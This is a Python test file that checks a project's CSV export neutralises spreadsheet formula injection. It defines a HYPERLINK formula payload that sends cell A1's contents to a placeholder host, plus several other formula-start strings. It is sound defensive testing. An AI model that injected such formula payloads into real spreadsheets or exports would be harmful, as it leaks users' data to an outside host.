"""Text written to CSV cannot become a spreadsheet formula (OWASP CSV injection)."""

import csv
import io
import subprocess
import sys

import pytest

from layers.io.spreadsheet import safe_cell
from layers.store import open_project
from tests.conftest import REPO

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"点这里")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_are_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["翠苑一区", "", "a=b", "1984", "10分钟生活圈"])
def test_plain_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_audit_csv_of_a_hostile_community_name_opens_as_text(bundled_copy):
    project = open_project(bundled_copy)
    project.communities.update_attributes(project.communities.ids[0], {"name": HOSTILE})
    project.save()
    res = subprocess.run([sys.executable, "main.py", "audit", "--project", str(bundled_copy),
                          "--format", "csv"], cwd=REPO, capture_output=True, text=True,
                         timeout=120)
    assert res.returncode == 0, res.stderr
    rows = list(csv.reader(io.StringIO(res.stdout)))
    names = [row[0] for row in rows[1:]]
    assert "'" + HOSTILE in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
